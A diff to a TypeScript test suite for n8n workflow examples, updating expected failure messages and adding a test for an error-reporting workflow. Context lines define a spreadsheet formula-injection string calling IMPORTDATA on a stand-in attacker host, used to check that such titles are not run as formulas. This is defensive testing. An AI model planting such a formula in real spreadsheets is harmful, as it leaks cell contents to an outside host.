@@ -23,8 +23,8 @@ import { activate, deactivate, saveWorkflow } from '../harness/workflows.mts';
 import type { Workflow } from '../harness/workflows.mts';
 import { API_KEY } from '../harness/world.mts';
 
-/** An agent that calls the gateway by itself. */
-const WITHOUT_OUR_NODE = 'mcp-client-agent';
+/** An agent that calls the gateway by itself, and what an execution starts that has failed. */
+const WITHOUT_OUR_NODE = ['mcp-client-agent', 'tell-what-failed'];
 
 /** A title that Google Sheets runs if it takes it for what a person typed. */
 const FORMULA = '=IMPORTDATA("https://attacker.example/?"&A1)';
@@ -95,7 +95,7 @@ export function testExamples(world: RegularMode): void {
 					assert.ok(known.has(type), `${type} is unknown to n8n`);
 				}
 				const ours = saved.nodes.filter(({ type }) => /\.dataAccess(Trigger|Tool)?$/.test(type));
-				assert.equal(ours.length === 0, name === WITHOUT_OUR_NODE);
+				assert.equal(ours.length === 0, WITHOUT_OUR_NODE.includes(name));
 				for (const { parameters, credentials } of ours) {
 					const isFree = parameters.operation === 'inspect';
 					assert.equal(credentials?.dataAccessApi?.id, isFree ? undefined : credentialId);
@@ -339,7 +339,7 @@ export function testExamples(world: RegularMode): void {
 			assert.ok(videos().some(({ title }) => String(title).startsWith('=')));
 			assert.deepEqual(sheets.formulas(), []);
 			assert.deepEqual(
-				inOrder(sheets.rows('Write costs')).map(({ date: _, ...row }) => row),
+				inOrder(sheets.rows('Write costs')).map(({ date: _, notice: __, ...row }) => row),
 				[
 					{ keyword: 'kites', records: 20, calls: 1, cost: 0.015, reason: 'limit' },
 					{ keyword: 'broken', records: 0, calls: 1, cost: 0, reason: 'failure' },
@@ -350,7 +350,7 @@ export function testExamples(world: RegularMode): void {
 			assert.equal(messages.length, 1);
 			assert.match(
 				messages[0]!.text,
-				/1 keywords were cut short: broken \(failure\).*cost \$0\.045/,
+				/One keyword needs a look:\n• broken: The gateway refused.*\nThis execution cost \$0\.045\./,
 			);
 
 			emulator.changeList('fetch_search_videos', 'bridges', { add: 3 });
@@ -388,7 +388,32 @@ export function testExamples(world: RegularMode): void {
 				keywords.filter((keyword) => !asked.includes(keyword)).sort(),
 			);
 			assert.equal(outside.messages.length, 1);
-			assert.match(outside.messages[0]!.text, /2 keywords were cut short.*cost \$0\.15/);
+			assert.match(
+				outside.messages[0]!.text,
+				/2 keywords need a look:\n(• keyword \d+: Max Cost \(USD\) ended this list\.\n){2}This execution cost \$0\.15\./,
+			);
+		});
+
+		test('tell-what-failed', async () => {
+			fresh();
+			const { rest, outside, emulator } = world;
+			const { id } = await saveWorkflow(rest, example('tell-what-failed'));
+			const night = inProduction(example('new-videos-to-google-sheets'));
+			const settings = { ...night.settings, errorWorkflow: id };
+			const workflow = await activate(world, { ...night, name: 'Night', settings });
+			emulator.addFault({ kind: 'server', httpStatus: 502, match: { page: 2 } });
+			const { status } = await executeByWebhook(rest, workflow);
+			assert.equal(status, 'error');
+			await until('the message', 60, async () => outside.messages.length > 0);
+			const { text } = outside.messages[0]!;
+			assert.match(text, /Night failed at New videos: The gateway failed/);
+			assert.match(
+				text,
+				/may have been charged\. 2 calls made, \$0\.015, and perhaps \$0\.015 more/,
+			);
+			assert.match(text, /\n1 page is safe\. Retry this execution in Executions/);
+			assert.match(text, /\nhttp:\/\/\S+\/executions\/\d+$/);
+			assert.doesNotMatch(text, /undefined|<br>/);
 		});
 
 		test('retry-in-the-morning', async () => {
@@ -435,7 +460,7 @@ export function testExamples(world: RegularMode): void {
 				[third, 'open', 'failure'],
 			]);
 			assert.equal(messages.length, 1);
-			assert.match(messages[0]!.text, /1 questions are still open: 19550227 \(failure\)/);
+			assert.match(messages[0]!.text, /One question is still open: 19550227 \(failure\)/);
 
 			await at('Every night at two');
 			const answers = sheets.rows('Add answers').map(({ question, id }) => `${question} ${id}`);
